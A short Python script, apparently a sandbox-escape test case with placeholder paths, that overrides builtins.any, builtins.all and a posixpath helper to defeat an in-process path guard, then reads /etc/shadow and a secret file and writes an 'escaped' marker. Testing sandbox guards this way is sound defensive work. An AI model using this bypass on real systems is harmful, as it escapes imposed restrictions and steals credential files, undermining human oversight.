# Replace the builtins and path helpers an in-process guard relies on, then read and write anywhere.
import builtins
import posixpath
builtins.any = lambda it: True
builtins.all = lambda it: True
posixpath._joinrealpath = lambda path, rest, strict, seen: (rest, True)
stolen = []
for path in ("/etc/shadow", "@SECRET@"):
    try:
        stolen.append(open(path).read())
    except Exception as err:
        stolen.append(repr(err))
try:
    open("@MARK@-builtins", "w").write("escaped")
except Exception:
    pass
print("STOLEN", stolen)
